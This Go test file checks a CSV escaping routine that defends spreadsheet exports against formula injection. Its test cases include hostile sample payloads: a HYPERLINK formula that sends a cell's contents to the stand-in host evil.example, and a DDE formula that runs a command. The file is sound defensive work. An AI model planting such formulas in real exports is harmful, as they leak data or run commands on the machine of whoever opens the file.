package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&B3,"open")`, `'=HYPERLINK("http://evil.example/?"&B3,"open")`},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"+1+2", "'+1+2"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-Inf", "'-Inf"},
		{"-0x1p-2", "'-0x1p-2"},
		{"-", "'-"},
		// Numbers stay numbers.
		{"-12.5", "-12.5"},
		{"+3", "+3"},
		{"-1e-07", "-1e-07"},
		{"-.5", "-.5"},
		{"12.5", "12.5"},
		// Other text is unchanged.
		{"", ""},
		{"SmaCross", "SmaCross"},
		{"fast=10 slow=30", "fast=10 slow=30"},
		{"2024-01-02", "2024-01-02"},
		{"a=b", "a=b"},
	} {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriter: every cell of a row goes through Cell, the caller's row is left alone, and
// the CSV quoting still holds (a spreadsheet or a CSV reader gets the escaped cells back).
func TestWriter(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := NewWriter(&b)
	row := []string{"=1+1", "-12.5", "a,b", "@x"}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if row[0] != "=1+1" {
		t.Errorf("Write changed the caller's row: %q", row)
	}
	got, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'=1+1", "-12.5", "a,b", "'@x"}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %d = %q, want %q", i, got[i], want[i])
		}
	}
}
